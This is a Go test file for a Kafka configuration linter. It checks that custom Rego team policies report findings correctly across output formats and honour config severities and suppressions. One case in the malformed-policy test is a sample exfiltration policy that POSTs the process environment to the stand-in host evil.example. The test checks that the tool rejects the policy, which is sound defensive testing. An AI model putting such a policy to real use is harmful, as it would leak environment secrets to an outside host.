package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCustomPolicies: the example team policies pass their tests, report
// at the right line in every format, take config severities and inline
// suppressions like built-in rules.
func TestCustomPolicies(t *testing.T) {
	out, _, code := runCLI(t, nil, "verify", "examples/policies")
	if code != 0 || !strings.Contains(out, " 0 failed") {
		t.Fatalf("verify: exit %d\n%s", code, out)
	}
	// the line of the created topic, as each format spells it
	want := map[string]string{
		"text":       "examples/fixtures/team/docker-compose.yml:12:28: warning TEAM001",
		"json":       `"rule_id": "TEAM001"`,
		"sarif":      `"ruleId": "TEAM001"`,
		"github":     "::warning file=examples/fixtures/team/docker-compose.yml,line=12,col=28",
		"junit":      "TEAM001",
		"checkstyle": `line="12" column="28" severity="warning"`,
		"gitlab":     `"check_name": "TEAM001"`,
	}
	for format, w := range want {
		out, errOut, code := runCLI(t, nil, "check", "--policy", "examples/policies", "--format", format, "examples/fixtures/team")
		if code != 1 {
			t.Errorf("%s: exit %d (%s)", format, code, errOut)
		}
		if !strings.Contains(out, w) {
			t.Errorf("%s output lacks %q:\n%s", format, w, out)
		}
		if format != "text" && format != "github" && !strings.Contains(out, "12") {
			t.Errorf("%s output lacks line 12", format)
		}
	}
}

func TestCustomPolicyConfigAndSuppression(t *testing.T) {
	root := repoRoot()
	dir := t.TempDir()
	src, err := os.ReadFile(filepath.Join(root, "examples", "fixtures", "team", "docker-compose.yml"))
	if err != nil {
		t.Fatal(err)
	}
	body := strings.Replace(string(src), `      KAFKA_CREATE_TOPICS: "Clicks-events:3:1"`, `      KAFKA_CREATE_TOPICS: "Clicks-events:3:1" # streamlint:ignore TEAM002 -- replay window agreed with the data team`, 1)
	if err := os.WriteFile(filepath.Join(dir, "docker-compose.yml"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	// a committed configuration names policies inside the repository
	if err := os.CopyFS(filepath.Join(dir, "team-policies"), os.DirFS(filepath.Join(root, "examples", "policies"))); err != nil {
		t.Fatal(err)
	}
	cfg := "policies: [team-policies]\nrules:\n  TEAM001: error\n"
	if err := os.WriteFile(filepath.Join(dir, ".streamlint.yaml"), []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	out, _, _ := inDir(t, dir, "", "check", "--format", "json")
	rep := parseJSON(t, out)
	var sawTeam1, sawTeam2 bool
	for _, f := range rep.Findings {
		switch f.RuleID {
		case "TEAM001":
			sawTeam1 = f.Severity == "error" && f.Line == 12
		case "TEAM002":
			sawTeam2 = f.Suppressed != nil && f.Suppressed.Reason == "replay window agreed with the data team"
		}
	}
	if !sawTeam1 || !sawTeam2 {
		t.Errorf("config severity or suppression not applied to custom rules:\n%s", out)
	}
}

func TestBadCustomPolicies(t *testing.T) {
	cases := map[string]struct {
		src  string
		want string
	}{
		"exfiltration": {"# METADATA\n# title: x\n# description: d\n# custom:\n#   id: EVIL001\n#   severity: error\n#   remediation: r\npackage streamlint.rules.EVIL001\n\ndeny contains f if {\n\tr := http.send({\"method\": \"POST\", \"url\": \"https://evil.example\", \"body\": opa.runtime().env})\n\tf := r\n}\n", "evil.rego:11: undefined function http.send"},
		"id collision": {"# METADATA\n# title: x\n# description: d\n# custom:\n#   id: KAF001\n#   severity: error\n#   remediation: r\npackage streamlint.rules.MINE\n\ndeny contains 1 if false\n", "rule id KAF001 is already used"},
		"no metadata":  {"package streamlint.rules.MINE2\n\ndeny contains 1 if false\n", "evil.rego:1: rule package has no package-scope # METADATA"},
		"syntax":       {"package streamlint.rules.BAD\n\ndeny contains f if {\n", "evil.rego:"},
		"v0":           {"package streamlint.rules.OLD\n\ndeny[msg] { msg := \"x\" }\n", "--rego-v0"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "evil.rego"), []byte(c.src), 0o644); err != nil {
				t.Fatal(err)
			}
			_, errOut, code := runCLI(t, nil, "check", "--policy", dir, "fixtures/incident/before")
			if code != 2 || !strings.Contains(errOut, c.want) {
				t.Errorf("exit %d, stderr:\n%s\nwant %q", code, errOut, c.want)
			}
		})
	}
}
